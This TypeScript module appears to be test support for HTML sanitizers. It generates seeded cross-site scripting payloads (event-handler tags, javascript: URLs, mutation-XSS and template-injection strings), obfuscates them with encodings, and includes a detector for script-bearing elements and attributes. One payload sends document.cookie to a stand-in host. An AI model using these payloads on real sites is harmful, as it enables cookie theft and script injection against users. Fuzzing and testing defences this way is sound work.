/**
 * Strings that run as code where a page makes HTML, an address or a template of a text. They are put together from parts of
 * our own, by a seed, so that the same seed gives the same strings; each sets `hit` or speaks to another server.
 */
const RUNS = ['hit=1', 'self.hit=1', 'window["hit"]=1', 'alert(1)', 'hit=document.title', "fetch('//xss.invalid/'+document.cookie)"]
const OPENS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</p>',
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  ']]>',
  '<!--',
  '</style>',
  '</bdi></dd>',
  '`',
  '\\"',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onwheel']
const SPACES = [' ', '/', '\t', '\u000c', ' / ']

type Made = (run: string, event: string, space: string) => string
const BODIES: readonly Made[] = [
  (run, _, space) => `<img${space}src=x${space}onerror=${run}>`,
  (run, _, space) => `<img src="data:,"${space}onerror="${run}" onload='${run}'>`,
  (run, event, space) => `<svg${space}${event}="${run}"><animate attributeName=x dur=1ms ${event}="${run}"/></svg>`,
  (run) => `<script>${run}</script>`,
  (run) => `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run, _, space) => `<details open${space}ontoggle=${run}>x</details>`,
  (run, event) => `<input autofocus onfocus="${run}" ${event}="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<audio src onerror=${run}>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}" id=x>x</a>`,
  (run) => `<a href="java&#9;script:${run}">x</a>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<svg><style><img title="</style><img src=x onerror=${run}>"></svg>`,
  (run) => `<template><img src=x onerror=${run}></template><img src=x onerror=${run}>`,
  (run) => `<body onload=${run}><frameset onload=${run}>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  () => '<base href="//xss.invalid/"><link rel=stylesheet href="//xss.invalid/x.css">',
  () => '<style>@import"//xss.invalid/x";*{background:url(//xss.invalid/y)}</style>',
  () => '<form id=lists><input name=getElementById><input name=nodeName><img name=body id=text>',
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>#{${run}}`,
  (run) => `'-${run}-'`,
  (run) => `";${run};//`,
  (run) => `</script><script>${run}</script>`,
  () => '{"__proto__":{"hit":1},"constructor":{"prototype":{"hit":1}}}',
  (run) => `\u202Egnp.exe<iframe srcdoc="<script>parent.${run}</script>">\u2066`,
  (run) => `<x contenteditable onbeforeinput="${run}" tabindex=1 onfocus=${run} autofocus style="animation:a">`,
]

const twisted: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => text.replace(/[a-z]/g, (sign, at: number) => (at % 2 === 0 ? sign.toUpperCase() : sign)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('"', '&quot;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => text.replace(/<(\w)/g, '<\u200B$1'),
  (text) => `Họ đến nhà ${text} เมื่อวาน`,
  (text) => `${text}${text}`,
]

/** So many different strings of one line each, in Unicode's composed form. */
export function xssStrings(seed: number, count: number): readonly string[] {
  const next = randomOf(seed)
  const one = <T>(all: readonly T[]): T => all[Math.floor(next() * all.length)] as T
  const made = new Set<string>()
  while (made.size < count) {
    const body = one(BODIES)(one(RUNS), one(EVENTS), one(SPACES))
    made.add(
      one(twisted)(`${one(OPENS)}${body}`)
        .normalize('NFC')
        .trim(),
    )
  }
  return [...made]
}

/** Mulberry32: small, and the same everywhere. */
function randomOf(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

/** In a page: what of a part of it is more than text; empty when nothing is. Handed to the browser as it stands. */
export const MORE_THAN_TEXT = (root: string): string[] => {
  const where = document.querySelector(root)
  const made = [
    ...(where?.querySelectorAll('script,img,iframe,svg,math,object,embed,form,base,meta,link,style,video,audio,template,frameset') ?? []),
  ]
  const spoken = [...(where?.querySelectorAll('*') ?? [])].flatMap((element) =>
    [...element.attributes].filter(({ name, value }) => /^on|^srcdoc$/i.test(name) || /^\s*(?:javascript|data):/i.test(value)),
  )
  const hit = 'hit' in globalThis ? ['hit'] : []
  return [...made.map(({ tagName }) => tagName), ...spoken.map(({ name }) => name), ...hit]
}
